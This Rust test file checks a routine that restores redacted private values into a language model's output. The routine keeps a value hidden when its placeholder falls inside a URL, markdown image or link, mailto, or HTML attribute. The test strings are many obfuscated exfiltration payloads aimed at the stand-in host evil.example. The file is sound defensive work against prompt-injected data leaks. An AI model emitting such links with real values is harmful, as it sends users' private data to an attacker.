//! A model that was told to send values away.

use super::*;

fn kept(text: &str) {
    let (restored, counts) = restored(text);
    assert_eq!(restored, text);
    assert!(counts.restored == 0 && counts.in_url >= 1, "{counts:?} {text}");
}

#[test]
fn addresses() {
    for text in [
        "https://evil.example/?q={X}",
        "HTTPS://evil.example/{X}",
        "x https://evil.example/a,b;c|d(e)[f]'g*h{X} y",
        "//evil.example/{X}",
        r"\\evil.example\{X}",
        r"/\evil.example\{X}",
        "evil.example/{X}",
        "evil.example/a,{X}",
        "evil.example?{X}",
        "evil.example#a,{X}",
        "evil.example:80,{X}",
        "münchen.example/{X}",
        "www.{X}",
        "https\\:\\/\\/evil,{X}",
        "www\\.evil\\.example\\?q={X}",
        "www\\.evil\\.example?q={X}",
        "mailto:{X}",
        "mailto:a@evil.example?subject=a,{X}",
        "data:text/html,{X}",
        "javascript:alert('{X}')",
        "x-custom+scheme:a,{X}",
        "tel:{X}",
        "a@{X}",
        "@{X}",
        "user:{X}",
        "path/{X}",
        "http&#58;&#47;&#47;evil.example,{X}",
        "evil&period;com,{X}",
        "https://evil.example/?\u{a0}{X}",
        "https://evil.example/?\u{3000}{X}",
        "https://evil.example/?\"{X}",
        "https://evil.example/?`{X}",
        "https://evil.example/?>{X}",
        "\"https://evil.example/?\"{X}",
        "` `https://evil.example/?`{X}",
        "{\"url\":\"https://evil.example/?\",\"mail\":\"{X}\"}",
        "'https://evil.example/?\"{X}",
    ] {
        kept(text);
    }
}

#[test]
fn what_becomes_an_address_behind_the_placeholder() {
    for text in [
        "{X}.evil.example",
        "{X}.evil.example/path",
        "{X}@evil.example",
        "{X}@host://",
        "{X}://evil.example",
        "{X}:80/",
        "{X}:x@evil.example",
        "{X}/x",
        "{X}?x",
        "{X}..evil.example",
        "{X}-a.evil.example",
        "{X}a.evil.example",
        "{X}\u{ad}.evil.example",
        "{X}\u{200b}.evil.example",
        "{X}\u{ff0e}evil.example",
        "{X}&#46;evil.example",
        "{X}&period;evil.example",
        "{X}ü.evil.example",
        "{X}\\.evil.example",
        "{X}.\\.evil.example",
        "{X}\\@evil.example",
        "{X}\\:80",
    ] {
        kept(text);
    }
    // No label of a host name is that long, and neither is what may still come.
    let long = "a".repeat(64);
    assert_eq!(restored(&format!("{{X}}{long}.evil.example")).1.restored, 1);
    let long = "a".repeat(63);
    assert_eq!(restored(&format!("{{X}}{long}.evil.example")).1.restored, 0);
    assert_eq!(restored(&format!("{{X}}{}.", "\u{ad}".repeat(1000))).1.restored, 0);
}

#[test]
fn markdown() {
    for text in [
        "![x](https://evil.example/?q={X})",
        "![x](/relative?q={X})",
        "[x]({X})",
        "[x]( {X})",
        "[x](\n{X})",
        "[x](\u{a0}\n{X})",
        "[x](\u{feff}\n\u{3000}{X})",
        "[x](<{X}>)",
        "[x](<a b) {X}>)",
        "[x](a b {X})",
        "[x](a(b)\"{X})",
        "[x](a\\)`{X})",
        "[a ![b](c) d](e\"{X})",
        "`](a` ![x](b\"{X})",
        "`](a` ![x](\nb\"{X})",
        "[x]: {X}",
        "[x]:{X}",
        "[x]:\n  {X}",
        "[x]: <a b {X}>",
        "[x]: a\"{X}",
        "`]:` a [x]: \n{X}",
        "<scheme:a {X}>",
        "<a+b:{X}>",
        "\\url(\"a {X}\")",
        "background: url( {X} )",
    ] {
        kept(text);
    }
    // The text of a link goes nowhere, and no link is made of a placeholder's own brackets.
    assert_eq!(restored("[{X}](https://a.example/)").0, "[bob@acme.com](https://a.example/)");
    assert_eq!(restored("{X}(https://a.example/{X})").0, "bob@acme.com(https://a.example/{X})");
    assert_eq!(restored("[[{X}]](/{X})").0, "[[bob@acme.com]](/{X})");
    assert_eq!(restored("[a][{X}] {X}").0, "[a][bob@acme.com] bob@acme.com");
}

#[test]
fn html() {
    for text in [
        "<img src=\"https://evil.example/?q= {X}\">",
        "<img src='{X}'>",
        "<img src={X}>",
        "<img src = \n'a {X}'>",
        "<img alt='>' src='a {X}'>",
        "<img ='> src='a> {X}'>",
        "<svg/onload='x {X}'>",
        "<a\thref=a {X}",
        "</p {X}>",
        "<!-- {X} -->",
        "<!-- > <img src=\" --> <img src=\"https://evil.example/> {X}\">",
        "<script>fetch('a'+'b') {X}",
        "<STYLE>a {X}",
        "<textarea><img src=\"</textarea><img src=\"a> {X}\">",
        "<![CDATA[ {X} ]]>",
        "<?xml {X} ?>",
        "href=\"a {X}\"",
        "SRC= a\"{X}",
        "src=\\\"a {X}",
        "`<a title=\"` <img src=\"a> {X}\">",
        "<a title=\" ![x](http://evil.example/\">{X})",
        "<a title=\" ![x](b\">{X})",
    ] {
        kept(text);
    }
}

/// Values come from the request, and so may be somebody else's text.
#[test]
fn values_do_not_make_addresses_of_values() {
    let parts =
        ["Bluebird", "https://evil.example/?q=", "x](", "<img src=\"a ", ".evil.example", "@evil.example", "see www"];
    let values: Vec<_> = parts.iter().map(|part| ("K", *part, Form::Label)).collect();
    let (map, p) = map(&values);
    let restored = |text: String| {
        let (mut text, counts) = restore_whole(&map, &text);
        p.iter().zip('a'..).for_each(|(p, name)| text.to_mut().retain_placeholder(p, name));
        (text.into_owned(), counts.restored)
    };
    let secret = &p[0];
    assert_eq!(restored(format!("{}{secret} {secret}", p[1])), ("https://evil.example/?q={a} Bluebird".into(), 2));
    assert_eq!(restored(format!("{},{secret}", p[1])), ("https://evil.example/?q=,{a}".into(), 1));
    assert_eq!(restored(format!("{secret}{}", p[4])), ("Bluebird{e}".into(), 1));
    assert_eq!(restored(format!("{secret}{}", p[5])), ("Bluebird{f}".into(), 1));
    assert_eq!(restored(format!("{secret}.{}", p[0])), ("Bluebird.{a}".into(), 1));
    assert_eq!(restored(format!("{}.{secret}", p[6])), ("see www.{a}".into(), 1));
    assert_eq!(restored(format!("[{}{secret} {secret})", p[2])), ("[x]({a} {a})".into(), 1));
    assert_eq!(restored(format!("[x]{}{secret}", "(")), ("[x]({a}".into(), 0));
    assert_eq!(restored(format!("{} {secret}\">", p[3])), ("<img src=\"a  {a}\">".into(), 1));
}

trait Retain {
    fn retain_placeholder(&mut self, placeholder: &str, name: char);
}

impl Retain for String {
    /// Writes what was left of a placeholder as `{a}`.
    fn retain_placeholder(&mut self, placeholder: &str, name: char) {
        *self = self.replace(placeholder, &format!("{{{name}}}"));
    }
}
